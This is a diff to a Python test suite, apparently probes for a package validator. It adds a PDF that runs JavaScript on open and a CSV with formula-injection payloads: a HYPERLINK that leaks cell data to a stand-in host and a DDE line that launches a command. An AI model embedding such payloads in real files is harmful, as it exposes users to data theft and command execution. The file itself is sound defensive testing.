@@ -332,6 +332,19 @@ def script_in_html(base, tmp):
     return with_manifest(folder, tmp / "p.tar.gz")
 
 
+PDF_SCRIPT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
+              b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
+CSV_FORMULA = '=HYPERLINK("http://example.org/?"&A2,"click")\n=cmd|\' /C calc\'!A0\n'
+
+
+def active_figure_files(base, tmp):
+    """A PDF that runs a script when opened and a CSV of spreadsheet formulas beside the item's PNG figure."""
+    folder = copy_base(base, tmp)
+    (folder / ITEM / "fig1.pdf").write_bytes(PDF_SCRIPT)
+    (folder / ITEM / "fig1.csv").write_text(CSV_FORMULA)
+    return with_manifest(folder, tmp / "p.tar.gz")
+
+
 def _metrics_probe(text: str):
     def build(base, tmp):
         folder = copy_base(base, tmp)
@@ -451,6 +464,7 @@ PROBES = [
     ("40 MiB-class giant PNG (9 MiB)", "content", giant_png, None),
     ("PNG of 100,000 x 100,000 pixels", "content", png_dimensions, None),
     ("script in an item page", "content", script_in_html, None),
+    ("PDF with a script and CSV with formulas", "content", active_figure_files, None),
     ("1e400 in wall_time_s", "numbers", _metrics_probe(METRICS_1E400), None),
     ("NaN in wall_time_s", "numbers", _metrics_probe(METRICS_NAN), None),
     ("integer 10^400 as a metric", "numbers", _metrics_probe(METRICS_BIGINT), None),
